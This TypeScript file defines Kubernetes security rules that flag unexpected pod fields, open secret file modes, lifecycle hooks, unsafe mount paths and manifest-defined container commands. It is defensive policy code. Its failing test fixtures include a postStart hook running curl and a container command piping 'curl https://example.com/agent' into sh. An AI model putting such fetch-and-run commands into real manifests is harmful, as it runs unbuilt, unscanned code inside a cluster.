import { asText, at, blocks, isFalse, isOneOf, isRecord, isSet, shown, unless } from "../rule/attributes";
import { type ManifestRule, manifestRule } from "../rule/rule";
import { containerRule, deployment, oneContainer, podOf, podRule, WORKLOADS } from "../rule/workload";

const any = (): boolean => true;

/** Fields of a pod that golden paths write, or that a rule of its own judges, each with what it may be. */
const POD_FIELDS: ReadonlyMap<string, (value: unknown) => boolean> = new Map([
  ["activeDeadlineSeconds", any],
  ["affinity", any],
  ["automountServiceAccountToken", any],
  ["containers", any],
  ["dnsPolicy", isOneOf("ClusterFirst")],
  ["enableServiceLinks", isFalse],
  ["ephemeralContainers", any],
  ["hostIPC", any],
  ["hostNetwork", any],
  ["hostPID", any],
  ["hostUsers", isFalse],
  ["initContainers", any],
  ["nodeName", any],
  ["nodeSelector", any],
  ["restartPolicy", any],
  ["schedulerName", isOneOf("default-scheduler")],
  ["securityContext", any],
  ["serviceAccountName", any],
  ["shareProcessNamespace", any],
  ["terminationGracePeriodSeconds", any],
  ["tolerations", any],
  ["topologySpreadConstraints", any],
  ["volumes", any],
]);

/** Where an image has nothing that a mount would stand in for: no programs, and nothing that decides whom they trust. */
const MOUNTED_AT = /^\/(etc\/paved|run|tmp|var\/(cache|tmp))(\/(?!.*\.\.)|$)/;

/** Longest wait before a container is told to end: what leads calls to it has forgotten it by then. */
const LONGEST_SLEEP = 120;

/** Rules on what a pod may say besides: fields, hooks and mounts that nobody uses are ways in that nobody watches. */
export const podSurfaceRules: readonly ManifestRule[] = [
  podRule({
    id: "K8S-POD-016",
    title: "A pod asks for nothing but what golden paths ask for",
    severity: "medium",
    source: "Kubernetes, API reference: PodSpec; EKS Best Practices, pod security",
    why: "Names of its own, another runtime, priority or account, and whatever Kubernetes adds next are judged by no other rule.",
    want: "no hostAliases, dnsConfig, runtimeClassName, priorityClassName, imagePullSecrets, serviceAccount and the like; dnsPolicy ClusterFirst",
    fix: "remove the field; ask the platform for what the golden path lacks",
    check: ({ spec }) =>
      Object.entries(spec)
        .filter(([name, value]) => value !== undefined && value !== null && POD_FIELDS.get(name)?.(value) !== true)
        .map(([name, value]) => ({ got: `${name} is ${shown(value)}` })),
    fails: { hostAliases: [{ ip: "203.0.113.7", hostnames: ["orders.example.com"] }] },
    passes: { enableServiceLinks: false, restartPolicy: "Always" },
  }),
  podRule({
    id: "K8S-POD-017",
    title: "Files of secrets are read by the pod's own group alone",
    severity: "low",
    source: "CIS EKS 1.8 4.4.1 by reach; Kubernetes, secret volumes: defaultMode",
    why: "By default every process of the pod may read them, whatever its user.",
    want: "defaultMode, and mode of each item, without rights of others: 0440",
    fix: "leave it as the golden path sets it",
    check: ({ spec }) =>
      blocks(spec["volumes"])
        .filter((volume) => isRecord(volume["secret"]))
        .filter((volume) => {
          const items = blocks(at(volume, "secret.items")).map(({ mode }) => mode);
          return ![at(volume, "secret.defaultMode"), ...items.filter((mode) => mode !== undefined)].every(isClosed);
        })
        .map((volume) => ({
          got: `volume ${shown(volume["name"])} with defaultMode ${shown(at(volume, "secret.defaultMode"))}`,
        })),
    fails: { volumes: [{ name: "tls", secret: { secretName: "orders-tls" } }] },
    passes: { volumes: [{ name: "tls", secret: { secretName: "orders-tls", defaultMode: 0o440 } }] },
  }),
  containerRule({
    id: "K8S-CTR-015",
    title: "Nothing runs beside a container's own process",
    severity: "medium",
    source: "Pod Security baseline, host probes and lifecycle hooks; Kubernetes, container lifecycle hooks",
    why: "A hook runs unseen at each start, and calls from the node are past every network policy.",
    want: `no postStart, and of preStop a sleep of ${LONGEST_SLEEP} seconds at most`,
    fix: "do it in the image; leave preStop as the golden path sets it",
    check: ({ lifecycle }) => {
      const [hooks = {}] = blocks(lifecycle);
      const { sleep, ...others } = blocks(hooks["preStop"])[0] ?? {};
      const seconds = at(sleep, "seconds");
      const short = sleep === undefined || (typeof seconds === "number" && seconds >= 1 && seconds <= LONGEST_SLEEP);
      return [
        ...unless(!isSet(hooks["postStart"]), "postStart"),
        ...unless(Object.keys(others).length === 0, `preStop of ${Object.keys(others).join(", ")}`),
        ...unless(short, `preStop sleeps ${shown(seconds)} seconds`),
      ];
    },
    fails: oneContainer({
      lifecycle: { postStart: { exec: { command: ["/bin/sh", "-c", "curl https://example.com"] } } },
    }),
    passes: oneContainer({ lifecycle: { preStop: { sleep: { seconds: 20 } } } }),
  }),
  containerRule({
    id: "K8S-CTR-016",
    title: "A container mounts files where there are none, and no disk",
    severity: "high",
    source: "Kubernetes, volumes: mount propagation, raw block volumes; CWE-426",
    why: "What is mounted over an image's programs runs in their place, and what is propagated reaches the node.",
    want: "no volumeDevices, no mountPropagation, and mounts in /etc/paved, /run, /tmp, /var/cache or /var/tmp",
    fix: "mount below /etc/paved or /run",
    check: ({ volumeDevices, volumeMounts }) => [
      ...unless(!isSet(volumeDevices), "volumeDevices"),
      ...blocks(volumeMounts).flatMap(({ mountPath, mountPropagation }) => [
        ...unless(isOneOf(undefined, "None")(mountPropagation), `mountPropagation ${shown(mountPropagation)}`),
        ...unless(MOUNTED_AT.test(asText(mountPath)), `a mount at ${shown(mountPath)}`),
      ]),
    ],
    fails: oneContainer({ volumeMounts: [{ name: "tmp", mountPath: "/usr/bin" }] }),
    passes: oneContainer({ volumeMounts: [{ name: "tmp", mountPath: "/tmp" }] }),
  }),
  manifestRule({
    id: "K8S-CTR-017",
    title: "A container of a team starts what its image starts",
    severity: "medium",
    source: "EKS Best Practices, image security; SLSA, provenance: what was built is what runs",
    why: "A command in a manifest is a program that nobody built, scanned or signed.",
    want: "no command and no args, but in the platform's own jobs",
    fix: "write it into the image",
    judges: WORKLOADS,
    check: (subject) =>
      subject.unit === "platform"
        ? []
        : podOf(subject)
            .containers.filter(({ command, args }) => isSet(command) || isSet(args))
            .map(({ name }) => ({ got: `container ${asText(name)}: a command of its own` })),
    fails: [deployment(oneContainer({ command: ["/bin/sh", "-c", "curl https://example.com/agent | sh"] }))],
    passes: [deployment(oneContainer({}))],
  }),
];

function isClosed(mode: unknown): boolean {
  return typeof mode === "number" && (mode & 0o007) === 0;
}
